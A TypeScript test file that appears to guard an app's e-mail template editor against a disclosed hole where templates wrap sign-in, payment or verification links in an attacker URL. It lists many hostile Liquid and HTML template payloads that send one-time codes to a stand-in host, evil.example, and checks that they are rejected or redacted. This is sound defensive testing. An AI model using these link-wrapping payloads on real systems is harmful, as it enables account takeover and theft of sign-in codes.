import { languages } from '@ops/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, signInAsNewOperator, testPublicUrl } from '../../test/app';
import { expectInvalid, type ErrorBody } from '../../test/requests';
import { createMailingTestApp, type MailingTestApp } from '../emails/test-support';
import { redactCode } from '../emails/sealed-secrets';
import { defaultTemplates } from './defaults';

/**
 * Issue 31's hole: a finance or membership operator (both hold `email-templates.edit`) saved a
 * sign-in template that wrapped the link (`https://evil.example/r?{{ link }}`); anyone then asked
 * for an admin's link, and the admin's click sent the working code to evil.example. No template,
 * saved through the API or stored behind its back, may now make a secret-bearing link, or a
 * member's payment or verification link, lead anywhere but our own pages.
 */

const base = '/api/settings/email-templates';
const adminEmail = 'admin-target@example.org';
const evil = 'https://evil.example/r?';

/** Templates an attacker would try: each wraps, rebuilds or hides the link. */
const hostileText = [
  `Open: ${evil}{{ link }}`,
  `Open: {{ link | prepend: "${evil}" }}`,
  `Open: {{ "${evil}" | append: link }}`,
  'Open: https://evil.example/{{ link | split: "?" | last }} {{ link }}',
  'Open: https://evil.example/#{{ link }}',
  'Open: evil.example/{{ link }}',
  `Open: {% capture wrapped %}${evil}{{ link }}{% endcapture %}{{ wrapped }}`,
];
const hostileHtml = [
  `<a href="${evil}{{ link }}">Sign in</a>`,
  `<a href='${evil}{{ link }}'>Sign in</a>`,
  `<a href=${evil}{{ link }}>Sign in</a>`,
  `<a href="{{ link | prepend: '${evil}' }}">Sign in</a>`,
  `<img src="${evil}a=>{{ link }}">`,
  '<a href="https://evil.example/">{{ link }}</a>',
  '<a href="{{ link }}" ping="https://evil.example/ping">Sign in</a>',
  '<p style="background:url(https://evil.example/{{ link }})">{{ link }}</p>',
  '<!-- {{ link }} --><a href="{{ link }}">Sign in</a>',
  '<form action="https://evil.example/"><input name="l" value="{{ link }}"></form>',
];

describe('no template leads a sign-in code, or a member, away from our own pages', () => {
  let t: MailingTestApp;
  let financeCookie: string;

  beforeAll(async () => {
    t = await createMailingTestApp((smtpUrl) => createTestApp({ SMTP_URL: smtpUrl }), {
      pollMs: 200,
    });
    financeCookie = await signInAsNewOperator(t, 'finance-editor@example.org', ['finance']);
    await signInAsNewOperator(t, adminEmail, ['admin']);
  });
  afterAll(() => t.close());

  const put = async (kind: string, language: string, body: object) => {
    const response = await t.app.inject({
      method: 'PUT',
      url: `${base}/${kind}/${language}`,
      payload: { ...body, version: null },
      headers: { cookie: financeCookie, origin: testPublicUrl },
    });
    return { status: response.statusCode, body: response.json<ErrorBody>() };
  };
  const signIn = (kind: 'sign-in-link' | 'password-reset', language: (typeof languages)[number]) =>
    defaultTemplates[kind][language] ?? defaultTemplates[kind].en;

  it('refuses at save every wrapped, rebuilt or hidden link, in every language and both kinds', async () => {
    for (const kind of ['sign-in-link', 'password-reset'] as const) {
      for (const language of languages) {
        const shipped = signIn(kind, language);
        for (const text of hostileText) {
          expectInvalid(
            await put(kind, language, { ...shipped, text }),
            'body.text',
            'template-link',
          );
        }
        for (const html of hostileHtml) {
          expectInvalid(
            await put(kind, language, { ...shipped, html }),
            'body.html',
            'template-link',
          );
        }
      }
    }
    // Wording may change freely, the link standing on its own.
    const reworded = await put('sign-in-link', 'en', {
      subject: 'Your sign-in link',
      text: 'Hello,\n\nyour link:\n{{ link }}\n\nIt works once, for 15 minutes.',
      html: '<p>Hello,</p><p><a href="{{ link }}" style="color:#1d4ed8">Sign in</a></p><p>{{ link }}</p>',
    });
    expect(reworded.status, JSON.stringify(reworded.body)).toBe(200);
  });

  it('keeps payment and verification links ours: wrapped ones are refused, placed ones saved', async () => {
    const invoice = defaultTemplates.invoice.en;
    if (!invoice) throw new Error('the invoice e-mail has an English default');
    expectInvalid(
      await put('invoice', 'en', {
        ...invoice,
        text: `${invoice.text}\nPay by card: https://evil-pay.example/?u={{ invoice.cardPaymentUrl }}`,
      }),
      'body.text',
      'template-link',
    );
    expectInvalid(
      await put('invoice', 'en', {
        ...invoice,
        html: `${invoice.html}<a href="https://evil-pay.example/">{{ invoice.cardPaymentUrl }}</a>`,
      }),
      'body.html',
      'template-link',
    );
    const certificate = defaultTemplates.certificate.en;
    if (!certificate) throw new Error('the certificate e-mail has an English default');
    expectInvalid(
      await put('certificate', 'en', {
        ...certificate,
        html: `${certificate.html}<a href="https://evil.example/?{{ certificate.verificationUrl }}">Check</a>`,
      }),
      'body.html',
      'template-link',
    );
    const placed = await put('invoice', 'en', {
      ...invoice,
      text: `${invoice.text}\n{% if invoice.cardPaymentUrl %}Pay by card: {{ invoice.cardPaymentUrl }}{% endif %}`,
    });
    expect(placed.status, JSON.stringify(placed.body)).toBe(200);
  });

  it('the outbox refuses a message whose code stands outside the console link, whatever made it', () => {
    const link = `${testPublicUrl}/auth/action?mode=signIn&oobCode=CODE123&continueUrl=x`;
    expect(redactCode(`Open:\n${link}\n`, 'CODE123', link)).toContain('oobCode=[redacted]');
    const html = `<a href="${link.replaceAll('&', '&amp;')}">Sign in</a>`;
    expect(redactCode(html, 'CODE123', link)).toContain('oobCode=[redacted]');
    for (const wrapped of [
      `Open: ${evil}${link}`,
      `<a href="${evil}${link}">x</a>`,
      `${link} https://evil.example/?oobCode=CODE123`,
    ]) {
      expect(() => redactCode(wrapped, 'CODE123', link), wrapped).toThrow(/outside the console/);
    }
  });

  it('a hostile template stored behind the API still delivers the code only in our own link', async () => {
    const stored = {
      id: 'sign-in-link:en',
      kind: 'sign-in-link',
      language: 'en',
      subject: 'Sign in',
      // Conditional, so an example render at save would not have shown it.
      text_body: `{% if email contains "admin" %}Open: ${evil}{{ link }}{% else %}{{ link }}{% endif %}`,
      html_body: `<a href="${evil}{{ link }}">Sign in</a>`,
    } as const;
    await t.database.db.deleteFrom('email_templates').where('id', '=', stored.id).execute();
    await t.database.db.insertInto('email_templates').values(stored).execute();
    const warnings: string[] = [];
    const onWarning = (warning: Error) => warnings.push(warning.message);
    process.on('warning', onWarning);
    try {
      const asked = await t.app.inject({
        method: 'POST',
        url: '/api/auth/email-link',
        payload: { email: adminEmail, continueUrl: `${testPublicUrl}/` },
        headers: { origin: testPublicUrl },
      });
      expect(asked.statusCode, asked.body).toBe(200);
      const mail = await t.mailbox.waitFor(adminEmail, { timeoutMs: 20_000 });
      const urls = [
        ...`${mail.text ?? ''} ${String(mail.html)}`.matchAll(/https?:\/\/[^\s"'<>]+/g),
      ].map((match) => match[0]);
      const withCode = urls.filter((url) => url.includes('oobCode='));
      expect(withCode.length).toBeGreaterThan(0);
      for (const url of withCode) expect(url.startsWith(`${testPublicUrl}/`), url).toBe(true);
      expect(`${mail.text ?? ''}${String(mail.html)}`).not.toContain('evil.example');
      await new Promise((resolve) => setImmediate(resolve));
      expect(warnings.join('\n')).toMatch(/sign-in-link e-mail template \(en, version 1\) failed/);
      // The editor says so, until the template is saved again.
      const shown = await t.app.inject({
        url: `${base}/sign-in-link/en`,
        headers: { cookie: financeCookie },
      });
      expect(
        shown.json<{ lastFallback: { reason: string } | null }>().lastFallback?.reason,
      ).toMatch(/must stand on its own|must be the whole href/);
    } finally {
      process.off('warning', onWarning);
      await t.database.db.deleteFrom('email_templates').where('id', '=', stored.id).execute();
    }
  });
});
